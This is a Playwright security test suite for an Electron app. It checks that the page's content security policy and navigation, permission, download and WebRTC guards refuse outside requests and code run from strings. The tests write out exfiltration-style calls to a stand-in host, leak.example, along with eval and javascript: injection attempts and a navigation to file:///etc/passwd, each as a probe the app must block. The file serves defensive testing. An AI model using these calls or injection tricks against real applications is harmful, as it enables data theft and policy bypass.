import type { JSHandle, Page } from '@playwright/test';
import { expect, test } from '../support/launch';

const outside = 'https://leak.example';

type Act = readonly [name: string, act: () => unknown];

/** What the page's policy says of an act: the directive that refused it. */
async function refusedBy(page: Page, act: () => unknown): Promise<string> {
  const refusal = page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        const listen = (event: SecurityPolicyViolationEvent) => resolve(event.effectiveDirective);
        document.addEventListener('securitypolicyviolation', listen, { once: true });
        setTimeout(resolve, 2_000, 'nothing refused it');
      }),
  );
  await page.evaluate(act).catch(() => undefined);
  return refusal;
}

test('the policy refuses everything from outside, each kind by its own directive', async ({
  launch,
}) => {
  const { page } = await launch();
  const acts: Readonly<Record<string, readonly Act[]>> = {
    'connect-src': [
      ['fetch', () => void fetch('https://leak.example/a').catch(() => undefined)],
      ['fetch of the app’s own files', () => void fetch('/index.html').catch(() => undefined)],
      [
        'XMLHttpRequest',
        () => {
          const request = new XMLHttpRequest();
          request.open('GET', 'https://leak.example/a');
          request.send();
        },
      ],
      ['sendBeacon', () => navigator.sendBeacon('https://leak.example/a', 'x')],
      ['WebSocket', () => void new WebSocket('wss://leak.example/a')],
      ['EventSource', () => void new EventSource('https://leak.example/a')],
      ['WebTransport', () => void new WebTransport('https://leak.example/a').closed.catch(() => 0)],
    ],
    'img-src': [
      ['image', () => void Object.assign(new Image(), { src: 'https://leak.example/a.png' })],
      [
        'background',
        () => {
          document.body.style.backgroundImage = 'url(https://leak.example/b.png)';
        },
      ],
    ],
    'font-src': [
      [
        'font',
        () => void new FontFace('leak', 'url(https://leak.example/a.woff2)').load().catch(() => 0),
      ],
    ],
    'media-src': [
      ['audio', () => void Object.assign(new Audio(), { src: 'https://leak.example/a.mp3' })],
    ],
    'frame-src': [
      [
        'iframe',
        () =>
          document.body.append(
            Object.assign(document.createElement('iframe'), { src: 'https://leak.example/' }),
          ),
      ],
      [
        'iframe of the app itself',
        () =>
          document.body.append(
            Object.assign(document.createElement('iframe'), { src: '/index.html' }),
          ),
      ],
    ],
    'style-src-elem': [
      [
        'stylesheet',
        () =>
          document.head.append(
            Object.assign(document.createElement('link'), {
              rel: 'stylesheet',
              href: 'https://leak.example/a.css',
            }),
          ),
      ],
      [
        'inline style sheet',
        () =>
          document.head.append(
            Object.assign(document.createElement('style'), { textContent: '*{}' }),
          ),
      ],
    ],
    'style-src-attr': [['style attribute', () => document.body.setAttribute('style', 'color:red')]],
    'base-uri': [
      [
        'base',
        () =>
          document.head.append(
            Object.assign(document.createElement('base'), { href: 'https://leak.example/' }),
          ),
      ],
    ],
    'form-action': [
      [
        'form',
        () => {
          const form = document.createElement('form');
          form.action = 'https://leak.example/';
          document.body.append(form);
          form.submit();
        },
      ],
    ],
    'require-trusted-types-for': [
      [
        'markup from a string',
        () => {
          document.createElement('p').innerHTML = '<b>x</b>';
        },
      ],
      ['a worker from a string', () => void new Worker('./a.js')],
      [
        'a script’s source from a string',
        () => {
          document.createElement('script').src = 'https://leak.example/a.js';
        },
      ],
    ],
    'trusted-types': [
      [
        'a policy of another name',
        () =>
          (
            window as unknown as { trustedTypes: { createPolicy: (n: string, r: object) => void } }
          ).trustedTypes.createPolicy('anything', {}),
      ],
    ],
  };
  for (const [directive, list] of Object.entries(acts)) {
    for (const [name, act] of list) {
      expect.soft(await refusedBy(page, act), name).toBe(directive);
    }
  }
});

/** The act as a function of the page's own. */
const handleOf = (page: Page, act: () => unknown) =>
  page.evaluateHandle(`() => { try { return (${act})(); } catch {} }`) as Promise<
    JSHandle<() => unknown>
  >;

test('no text becomes a program', async ({ launch }) => {
  const { page } = await launch();
  const acts: readonly Act[] = [
    // biome-ignore lint/security/noGlobalEval: what is tested.
    ['eval', () => eval('window.ran = 1')],
    ['new Function', () => new Function('window.ran = 1')()],
    ['setTimeout of a string', () => setTimeout('window.ran = 1' as unknown as () => void)],
    [
      'inline script',
      () => {
        const script = document.createElement('script');
        script.append('window.ran = 1');
        document.body.append(script);
      },
    ],
    [
      'inline handler',
      () => {
        const button = document.createElement('button');
        button.setAttribute('onclick', 'window.ran = 1');
        document.body.append(button);
        button.click();
      },
    ],
    [
      'javascript: link',
      () => {
        const link = document.createElement('a');
        link.setAttribute('href', 'javascript:void(window.ran = 1)');
        document.body.append(link);
        link.click();
      },
    ],
    [
      'javascript: address',
      () => {
        location.href = 'javascript:void(window.ran = 1)';
      },
    ],
    ['data: module', () => import(/* @vite-ignore */ `data:text/javascript,window.ran${' '}= 1`)],
    [
      'blob: module',
      () =>
        import(
          /* @vite-ignore */ URL.createObjectURL(
            new Blob(['window.ran = 1'], { type: 'text/javascript' }),
          )
        ),
    ],
  ];
  for (const [name, act] of acts) {
    // Later, in a task of the page: what a debugger evaluates at once is let past the policy.
    await page.evaluate((body) => void setTimeout(() => void body()), await handleOf(page, act));
    await page.waitForTimeout(50);
    const ran = await page.evaluate(() => (window as unknown as { ran?: number }).ran);
    expect(ran, name).toBeUndefined();
  }
});

test('the page stays where it is and opens nothing', async ({ launch }) => {
  const { app, page } = await launch();
  await page.waitForLoadState();
  const address = page.url();
  await page.evaluate(() => {
    document.title = 'still here';
    (window as unknown as { marker: number }).marker = 1;
  });
  const opened = () => app.evaluate(({ webContents }) => webContents.getAllWebContents().length);
  const pages = await opened();

  const destinations = [
    outside,
    'http://127.0.0.1:1/',
    'app://preround.evil/index.html',
    'app://preround/index.html',
    'app://preround/missing.html',
    'file:///etc/passwd',
    'data:text/html,x',
    'chrome://version/',
    'devtools://devtools/bundled/inspector.html',
    'view-source:app://preround/index.html',
    'mailto:a@example.org',
  ];
  const ways: Readonly<Record<string, (url: string) => unknown>> = {
    'location.assign': (url) => location.assign(url),
    'location.replace': (url) => location.replace(url),
    'window.open': (url) => window.open(url),
    'window.open on itself': (url) => window.open(url, '_self'),
    link: (url) => Object.assign(document.createElement('a'), { href: url }).click(),
    'link to a new window': (url) =>
      Object.assign(document.createElement('a'), { href: url, target: '_blank' }).click(),
    refresh: (url) => {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'refresh';
      meta.content = `0;url=${url}`;
      document.head.append(meta);
    },
  };
  const stays = async (what: string) => {
    await page.waitForTimeout(80);
    const marker = await page
      .evaluate(() => (window as unknown as { marker?: number }).marker)
      .catch(() => 'no page');
    expect(marker, what).toBe(1);
    expect(page.url(), what).toBe(address);
    expect(await opened(), what).toBe(pages);
  };
  for (const [way, go] of Object.entries(ways)) {
    for (const url of destinations) {
      await page.evaluate(go, url).catch(() => undefined);
      await stays(`${way} to ${url}`);
    }
  }
  await page.evaluate(() => {
    const page = URL.createObjectURL(new Blob(['<p>x'], { type: 'text/html' }));
    location.assign(page);
  });
  await stays('a page made by the page');
  await page.evaluate(() => location.reload());
  await stays('reload by the page');
});

test('an empty page, which Electron asks nobody about, is not answered', async ({ launch }) => {
  const { page } = await launch();
  await page.waitForLoadState();
  await page.evaluate(() => location.assign('about:blank'));
  await page.waitForTimeout(300);
  if (page.url() !== 'about:blank') return;
  const code = await page.evaluate(async () => {
    const reply = await window.preround?.send('application.about', {});
    return reply?.ok ? 'answered' : 'refused';
  });
  expect(code).toBe('refused');
});

test('every page made has its guards, redirects and webviews included', async ({ launch }) => {
  const { app } = await launch();
  const stopped = await app.evaluate(({ webContents, BrowserWindow }) => {
    const contents = BrowserWindow.getAllWindows()[0]?.webContents ?? webContents.create();
    const asked: Record<string, boolean> = {};
    const ask = (name: string, ...rest: unknown[]) => {
      asked[name] = false;
      const event = {
        url: 'https://leak.example/',
        preventDefault: () => {
          asked[name] = true;
        },
      };
      (contents as unknown as NodeJS.EventEmitter).emit(name, event, ...rest);
    };
    for (const name of ['will-navigate', 'will-frame-navigate', 'will-redirect']) {
      ask(name, 'https://leak.example/');
    }
    ask('will-attach-webview', {}, {});
    ask('select-bluetooth-device', [{ deviceId: 'a' }], () => undefined);
    return { asked, policy: contents.getWebRTCIPHandlingPolicy() };
  });
  expect(stopped).toEqual({
    asked: {
      'will-navigate': true,
      'will-frame-navigate': true,
      'will-redirect': true,
      'will-attach-webview': true,
      'select-bluetooth-device': true,
    },
    policy: 'disable_non_proxied_udp',
  });
});

test('the page is given no permission and no device', async ({ launch }) => {
  const { page } = await launch();
  const answers = await page.evaluate(async () => {
    const refusal = (asked: Promise<unknown> | undefined) =>
      (asked ?? Promise.reject(new Error('absent'))).then(
        (given) => `given: ${String(given)}`,
        () => 'refused',
      );
    const navigator = globalThis.navigator as Navigator &
      Record<string, never> & {
        usb?: { requestDevice: (o: object) => Promise<unknown> };
        hid?: { requestDevice: (o: object) => Promise<unknown> };
        serial?: { requestPort: () => Promise<unknown> };
        bluetooth?: { requestDevice: (o: object) => Promise<unknown> };
      };
    const state = (name: string) =>
      navigator.permissions.query({ name: name as PermissionName }).then(
        (status) => status.state,
        () => 'denied',
      );
    return {
      notifications: await Notification.requestPermission(),
      storage: await navigator.storage.persist(),
      states: await Promise.all(
        [
          'notifications',
          'geolocation',
          'camera',
          'microphone',
          'midi',
          'clipboard-read',
          'clipboard-write',
          'local-fonts',
          'window-management',
          'storage-access',
          'idle-detection',
          'persistent-storage',
        ].map(state),
      ),
      asked: await Promise.all([
        refusal(navigator.mediaDevices.getUserMedia({ audio: true })),
        refusal(navigator.mediaDevices.getUserMedia({ video: true })),
        refusal(navigator.mediaDevices.getDisplayMedia({ video: true })),
        refusal(
          new Promise((give, refuse) => navigator.geolocation.getCurrentPosition(give, refuse)),
        ),
        refusal(navigator.clipboard.readText()),
        refusal(navigator.clipboard.writeText('x')),
        refusal(navigator.requestMIDIAccess({ sysex: true })),
        refusal(navigator.usb?.requestDevice({ filters: [] })),
        refusal(navigator.hid?.requestDevice({ filters: [] })),
        refusal(navigator.serial?.requestPort()),
        refusal(navigator.bluetooth?.requestDevice({ acceptAllDevices: true })),
        refusal(document.documentElement.requestFullscreen()),
        refusal(navigator.wakeLock.request('screen')),
      ]),
    };
  });
  expect(answers.notifications).toBe('denied');
  expect(answers.storage).toBe(false);
  expect(new Set(answers.states)).toEqual(new Set(['denied']));
  expect(new Set(answers.asked)).toEqual(new Set(['refused']));
});

test('the page may not save a file', async ({ launch }) => {
  const { app, page } = await launch();
  await app.evaluate(({ BrowserWindow }) => {
    const seen: boolean[] = [];
    Object.assign(globalThis, { seen });
    BrowserWindow.getAllWindows()[0]?.webContents.session.on('will-download', (event, item) => {
      seen.push(event.defaultPrevented);
      item.cancel();
    });
  });
  await page.evaluate(() => {
    const href = URL.createObjectURL(new Blob(['x']));
    Object.assign(document.createElement('a'), { href, download: 'leak.txt' }).click();
  });
  const seen = () => app.evaluate(() => (globalThis as unknown as { seen: boolean[] }).seen);
  await expect.poll(seen).toEqual([true]);
});

test('WebRTC finds no way out', async ({ launch }) => {
  const { page } = await launch();
  const found = await page.evaluate(
    () =>
      new Promise<string[]>((resolve) => {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:198.51.100.7:3478' }] });
        const candidates: string[] = [];
        peer.onicecandidate = ({ candidate }) => {
          if (candidate?.candidate) candidates.push(candidate.candidate);
          if (!candidate) resolve(candidates);
        };
        peer.createDataChannel('leak');
        void peer.createOffer().then((offer) => peer.setLocalDescription(offer));
        setTimeout(() => resolve(candidates), 3_000);
      }),
  );
  expect(found).toEqual([]);
});

test('the page has no Node and no webview', async ({ launch }) => {
  const { page } = await launch();
  const found = await page.evaluate(() => ({
    globals: [
      'require',
      'process',
      'Buffer',
      'module',
      'exports',
      'global',
      '__dirname',
      'electron',
      'ipcRenderer',
      'webFrame',
      'SharedArrayBuffer',
    ].filter((name) => name in window),
    webview: document.createElement('webview').constructor.name,
  }));
  expect(found).toEqual({ globals: [], webview: 'HTMLElement' });
});
